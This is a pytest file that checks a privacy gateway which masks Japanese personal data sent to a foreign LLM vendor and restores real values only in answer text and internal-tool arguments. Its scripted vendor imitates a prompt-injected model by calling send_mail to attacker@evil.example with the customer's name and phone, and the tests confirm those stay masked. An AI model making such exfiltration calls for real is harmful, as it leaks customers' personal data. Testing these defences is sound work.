"""Where real values go back (issue 11, item 4), through the real gateway and the real openai SDK.

A scripted foreign vendor answers with the placeholders it received: in the text, in the
arguments of an internal tool (``lookup_customer``, listed in ``privacy.restore.internal_tools``)
and of any other tool (``send_mail`` to an attacker, as a prompt-injected model would), plain,
as a legacy ``function_call``, and streamed one character per delta so every placeholder is split.
The client gets real values only in the text and in the internal tool's arguments; text the
client wrote that looks like a placeholder survives the round trip unchanged.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openai
import pytest

from tests.conftest import fake_model, openai_provider
from tests.fakes.base import Reply
from tests.fakes.fake_anthropic import FakeAnthropic, message, message_events
from tests.fakes.scripted_openai import (
    ScriptedOpenAI,
    chunk,
    completion,
    delta,
    first,
    stream,
    text_deltas,
    tool_call,
    tool_deltas,
)
from tests.harness import GatewayHandle, LoopThread, start_gateway

pytest.importorskip("sudachipy")

NAME, PHONE = "山田太郎", "090-1234-5678"
DOC = f"お客様の{NAME}様（電話 {PHONE}）から返品の依頼がありました。顧客台帳を確認して返信してください。"
TOOLS: list[dict[str, Any]] = [
    {"type": "function", "function": {"name": "lookup_customer", "description": "顧客台帳を引く",
                                      "parameters": {"type": "object", "properties": {"name": {"type": "string"}}}}},
    {"type": "function", "function": {"name": "send_mail", "description": "メールを送る",
                                      "parameters": {"type": "object", "properties": {
                                          "to": {"type": "string"}, "body": {"type": "string"}}}}},
]
ATTACKER = "attacker@evil.example"


@pytest.fixture(scope="module")
def setup(lt: LoopThread, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[GatewayHandle, ScriptedOpenAI]]:
    fake = lt.run(ScriptedOpenAI().start())
    cfg = {
        "providers": {"abroad": openai_provider(fake.url + "/v1", max_retries=0)},
        "models": [fake_model("foreign", "abroad", region="US", capabilities={"tools": True})],
        "default_model": "foreign",
        "privacy": {"restore": {"internal_tools": ["lookup_customer"]}},
        # no routing section: the default policy masks personal data headed abroad
    }
    gw = start_gateway(lt, cfg, tmp_path_factory.mktemp("restore"), {"FAKE_KEY": "k"})
    yield gw, fake
    gw.stop()
    lt.run(fake.stop())


def client(gw: GatewayHandle) -> openai.OpenAI:
    return openai.OpenAI(base_url=gw.base_url, api_key="local", max_retries=0, timeout=30)


def ask(gw: GatewayHandle, content: str = DOC, model: str = "foreign", **kw: Any) -> Any:
    return client(gw).chat.completions.create(
        model=model, messages=[{"role": "user", "content": content}], **kw)


def sent_text(fake: ScriptedOpenAI) -> str:
    return fake.requests[-1].body.decode("utf-8")


def attack(body: dict[str, Any]) -> dict[str, str]:
    return {"to": ATTACKER, "body": f"{first(body, '氏名')}様 {first(body, '電話')}"}


# ---- item 1: tool-call arguments ------------------------------------------------------------
def test_plain_tool_calls_restore_only_internal_tools(setup: tuple[GatewayHandle, ScriptedOpenAI]) -> None:
    gw, fake = setup
    fake.answer(lambda b: completion(f"{first(b, '氏名')}様を確認します。", tool_calls=[
        tool_call("lookup_customer", {"name": first(b, "氏名"), "phone": first(b, "電話")}, "call_a"),
        tool_call("send_mail", attack(b), "call_b"),
    ]))
    r = ask(gw, tools=TOOLS)
    assert NAME not in sent_text(fake) and PHONE not in sent_text(fake)
    msg = r.choices[0].message
    assert msg.content == f"{NAME}様を確認します。"
    calls = {c.function.name: json.loads(c.function.arguments) for c in msg.tool_calls or []}
    assert calls["lookup_customer"] == {"name": NAME, "phone": PHONE}
    mail = calls["send_mail"]
    assert mail["to"] == ATTACKER
    assert NAME not in mail["body"] and PHONE not in mail["body"]
    assert mail["body"] == attack(fake.received())["body"]  # the placeholders, exactly as written


def test_legacy_function_call_follows_the_same_rule(setup: tuple[GatewayHandle, ScriptedOpenAI]) -> None:
    gw, fake = setup
    for name, restored in (("send_mail", False), ("lookup_customer", True)):
        def answer(b: dict[str, Any], name: str = name) -> Any:
            args = json.dumps({"to": ATTACKER, "name": first(b, "氏名")}, ensure_ascii=False)
            return completion(function_call={"name": name, "arguments": args})

        fake.answer(answer)
        fc = ask(gw, functions=[t["function"] for t in TOOLS]).choices[0].message.function_call
        assert fc is not None and fc.name == name
        args = json.loads(fc.arguments)
        assert (args["name"] == NAME) is restored
        assert args["name"] == (NAME if restored else first(fake.received(), "氏名"))


@pytest.mark.parametrize("size", [1, 3], ids=["1-char-deltas", "3-char-deltas"])
def test_streamed_tool_call_arguments_follow_the_same_rule(
        setup: tuple[GatewayHandle, ScriptedOpenAI], size: int) -> None:
    """Before: streamed arguments were never restored, not even for an internal tool."""
    gw, fake = setup

    def answer(b: dict[str, Any]) -> Any:
        internal = json.dumps({"name": first(b, "氏名")}, ensure_ascii=False)
        external = json.dumps(attack(b), ensure_ascii=False)
        return stream([chunk([delta({"role": "assistant", "content": None})]),
                       *tool_deltas("lookup_customer", internal, size, index=0, ident="call_a"),
                       *tool_deltas("send_mail", external, size, index=1, ident="call_b"),
                       chunk([delta({}, "tool_calls")])])

    fake.answer(answer)
    args: dict[int, str] = {}
    names: dict[int, str] = {}
    for c in ask(gw, tools=TOOLS, stream=True):
        for ch in c.choices:
            for tc in ch.delta.tool_calls or []:
                if tc.function and tc.function.name:
                    names[tc.index] = tc.function.name
                if tc.function and tc.function.arguments:
                    args[tc.index] = args.get(tc.index, "") + tc.function.arguments
    assert names == {0: "lookup_customer", 1: "send_mail"}
    assert json.loads(args[0]) == {"name": NAME}
    mail = json.loads(args[1])
    assert mail == attack(fake.received()) and NAME not in args[1] and PHONE not in args[1]


def test_streamed_arguments_ending_in_a_split_placeholder_are_flushed(
        setup: tuple[GatewayHandle, ScriptedOpenAI]) -> None:
    """The last argument fragment ends half-way into a placeholder; the rest comes in the finish
    chunk, which carries nothing else (``delta: {}``): the held-back fragment must still go out."""
    gw, fake = setup

    def answer(b: dict[str, Any]) -> Any:
        ph = first(b, "氏名")
        return stream([*tool_deltas("lookup_customer", '{"q": "' + ph[:2], size=100),
                       chunk([delta({"tool_calls": [{"index": 0, "function": {"arguments": ph[2:] + '"}'}}]})]),
                       *tool_deltas("send_mail", '{"q": "' + ph[:3], size=100, index=1, ident="call_b"),
                       chunk([delta({}, "tool_calls")])])

    fake.answer(answer)
    args: dict[int, str] = {}
    for c in ask(gw, tools=TOOLS, stream=True):
        for ch in c.choices:
            for tc in ch.delta.tool_calls or []:
                if tc.function and tc.function.arguments:
                    args[tc.index] = args.get(tc.index, "") + tc.function.arguments
    ph = first(fake.received(), "氏名")
    assert json.loads(args[0]) == {"q": NAME}
    assert args[1] == '{"q": "' + ph[:3]  # not internal: the fragment as written, not dropped


def test_a_value_goes_into_arguments_json_escaped(setup: tuple[GatewayHandle, ScriptedOpenAI]) -> None:
    """An address found across a line break is restored with the break: inside a JSON string
    that must be ``\\n``, or the client's json.loads fails."""
    gw, fake = setup
    addr = "東京都千代田区丸の内1-9-1\nグラントウキョウ"
    fake.answer(lambda b: completion(tool_calls=[
        tool_call("lookup_customer", {"address": first(b, "住所")})]))
    r = ask(gw, f"{NAME}様の住所は{addr}です。", tools=TOOLS)
    (call,) = r.choices[0].message.tool_calls or []
    got = json.loads(call.function.arguments)["address"]
    assert "〔" not in got and got.startswith("東京都千代田区丸の内1-9-1")
    assert addr not in sent_text(fake) and "東京都千代田区丸の内" not in sent_text(fake)


# ---- item 2: client text that looks like a placeholder --------------------------------------
LITERALS = ["〔氏名1〕", "〔氏名〕", "〔電話1〕", "〔画像〕", "〔原文:氏名1〕", "〔氏名１〕"]


@pytest.mark.parametrize("stream_", [False, True], ids=["plain", "stream"])
def test_client_placeholder_text_survives_and_is_never_overwritten(
        setup: tuple[GatewayHandle, ScriptedOpenAI], stream_: bool) -> None:
    """The vendor echoes what it received. Before: 〔氏名1〕 the client wrote came back as 山田太郎."""
    gw, fake = setup
    prompt = f"{'、'.join(LITERALS)}という書式で、{NAME}様（{PHONE}）宛の文面を作ってください。"

    def echo(b: dict[str, Any]) -> Any:
        text = b["messages"][-1]["content"]
        return stream([*text_deltas(text, 1), chunk([delta({}, "stop")])]) if stream_ else completion(text)

    fake.answer(echo)
    if stream_:
        answer = "".join(c.choices[0].delta.content or "" for c in ask(gw, prompt, stream=True) if c.choices)
    else:
        answer = ask(gw, prompt).choices[0].message.content
    assert answer == prompt  # the round trip returns exactly what the client wrote
    sent = fake.received()["messages"][-1]["content"]
    assert NAME not in sent and PHONE not in sent
    # The vendor can tell them apart: the client's own tokens arrive escaped, and the real
    # placeholders are numbered around the numbers the client used.
    assert "〔原文:氏名1〕" in sent and "〔原文:原文:氏名1〕" in sent and "〔原文:画像〕" in sent
    assert "〔氏名1〕" not in sent and "〔電話1〕" not in sent
    assert first(fake.received(), "氏名") == "〔氏名2〕" and first(fake.received(), "電話") == "〔電話2〕"


def test_model_using_both_forms_gets_each_restored_its_own_way(setup: tuple[GatewayHandle, ScriptedOpenAI]) -> None:
    gw, fake = setup
    fake.answer(lambda b: completion(f"〔原文:氏名1〕の欄には{first(b, '氏名')}様と書きます。"))
    answer = ask(gw, f"〔氏名1〕という書式で{NAME}様の欄を埋める方法は？").choices[0].message.content
    assert answer == f"〔氏名1〕の欄には{NAME}様と書きます。"


# ---- item 3: the held-back tail, whatever the final chunk looks like -------------------------
FINALS: dict[str, list[dict[str, Any]]] = {
    "empty-delta": [chunk([delta({}, "stop")])],
    "no-delta-key": [chunk([delta(None, "stop", omit_delta=True)])],
    "null-delta": [chunk([delta(None, "stop")])],
    "null-content": [chunk([delta({"content": None}, "stop")])],
    "empty-content": [chunk([delta({"content": ""}, "stop")])],
    "content-in-final": [chunk([delta({"content": "。"}, "stop")])],
    "usage-only-after-finish": [chunk([delta({}, "stop")]),
                                chunk([], usage={"prompt_tokens": 5, "completion_tokens": 3, "total_tokens": 8})],
    "no-finish-reason": [],  # [DONE] without any finish_reason: the gateway's own last chunk
}


@pytest.mark.parametrize("shape", list(FINALS))
def test_held_tail_is_flushed_whatever_the_final_chunk(setup: tuple[GatewayHandle, ScriptedOpenAI], shape: str) -> None:
    """The answer ends in 〔電話, which could still grow into a placeholder, so it is held back;
    it must reach the client in every ending (before: an empty delta dropped it)."""
    gw, fake = setup
    body = [chunk([delta({"role": "assistant", "content": ""})]), *text_deltas("折り返しは〔電話", 2), *FINALS[shape]]
    fake.answer(lambda b: stream(body))
    chunks = list(ask(gw, stream=True, stream_options={"include_usage": True}))
    text = "".join(c.choices[0].delta.content or "" for c in chunks if c.choices)
    assert text == "折り返しは〔電話" + ("。" if shape == "content-in-final" else "")


def test_placeholder_completed_in_the_final_chunk_is_restored(setup: tuple[GatewayHandle, ScriptedOpenAI]) -> None:
    gw, fake = setup
    fake.answer(lambda b: stream([*text_deltas("宛先は" + first(b, "氏名")[:2], 1),
                                  chunk([delta({"content": first(b, "氏名")[2:] + "様"}, "stop")])]))
    text = "".join(c.choices[0].delta.content or "" for c in ask(gw, stream=True) if c.choices)
    assert text == f"宛先は{NAME}様"


@pytest.mark.parametrize("stream_", [False, True], ids=["plain", "stream"])
def test_anthropic_tool_use_follows_the_same_rule(lt: LoopThread, tmp_path: Path, stream_: bool) -> None:
    """Through the Anthropic adapter: tool_use blocks (streamed as input_json_delta fragments cut
    mid-placeholder) become OpenAI tool calls, restored by the same rule."""
    fake = lt.run(FakeAnthropic().start())
    cfg = {"providers": {"claude": {"kind": "anthropic", "base_url": fake.url, "api_key": "${VENDOR_KEY}",
                                    "max_retries": 0}},
           "models": [fake_model("claude", "claude", region="US", capabilities={"tools": True})],
           "default_model": "claude", "privacy": {"restore": {"internal_tools": ["lookup_customer"]}}}
    gw = start_gateway(lt, cfg, tmp_path, {"VENDOR_KEY": "k"})
    try:
        # The first name and phone of DOC are 〔氏名1〕 and 〔電話1〕 (reading order; checked below).
        uses = [("toolu_a", "lookup_customer", {"name": "〔氏名1〕"}),
                ("toolu_b", "send_mail", {"to": ATTACKER, "body": "〔氏名1〕様 〔電話1〕"})]
        fake.enqueue(Reply(events=message_events(["確認します"], tool_uses=uses)) if stream_
                     else Reply(json=message("確認します", tool_uses=uses)))
        args: dict[int, str] = {}
        names: dict[int, str] = {}
        if stream_:
            for c in ask(gw, model="claude", tools=TOOLS, stream=True):
                for ch in c.choices:
                    for tc in ch.delta.tool_calls or []:
                        if tc.function and tc.function.name:
                            names[tc.index] = tc.function.name
                        if tc.function and tc.function.arguments:
                            args[tc.index] = args.get(tc.index, "") + tc.function.arguments
        else:
            for i, tc in enumerate(ask(gw, model="claude", tools=TOOLS).choices[0].message.tool_calls or []):
                names[i], args[i] = tc.function.name, tc.function.arguments
        got = {names[i]: json.loads(a) for i, a in args.items()}
        sent = fake.requests[-1].body.decode()
        assert NAME not in sent and "〔氏名1〕" in sent and "〔電話1〕" in sent
        assert got["lookup_customer"] == {"name": NAME}
        assert got["send_mail"] == {"to": ATTACKER, "body": "〔氏名1〕様 〔電話1〕"}
    finally:
        gw.stop()
        lt.run(fake.stop())
